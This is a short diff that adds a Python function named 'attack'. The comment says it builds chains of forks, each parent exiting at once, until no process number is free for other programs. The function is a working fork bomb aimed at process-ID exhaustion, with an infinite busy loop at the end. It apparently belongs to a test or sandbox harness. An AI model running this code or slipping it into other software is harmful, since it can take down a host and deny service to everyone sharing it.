@@ -1,0 +1,14 @@
+# tries: chains of forks, each link leaving at once, until no process number is free for others
+def attack(keys, j):
+    for _ in range(4):
+        if os.fork():
+            continue
+        while True:
+            try:
+                if os.fork():
+                    os._exit(0)
+                os.setsid()
+            except OSError:
+                continue
+    while True:
+        pass
